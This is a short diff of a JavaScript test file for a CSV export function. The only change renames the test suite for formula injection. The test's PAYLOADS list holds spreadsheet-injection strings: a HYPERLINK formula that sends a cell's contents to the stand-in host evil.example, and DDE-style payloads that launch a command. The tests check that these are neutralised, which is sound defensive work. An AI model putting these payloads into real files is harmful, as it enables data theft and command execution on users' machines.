@@ -55,7 +55,7 @@ describe('toCsv', () => {
   });
 });
 
-describe('formula injection (issue 16)', () => {
+describe('formula injection', () => {
   const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
 
   it('text that a spreadsheet would run is prefixed with a quote; numbers, negative ones included, stay numbers', () => {
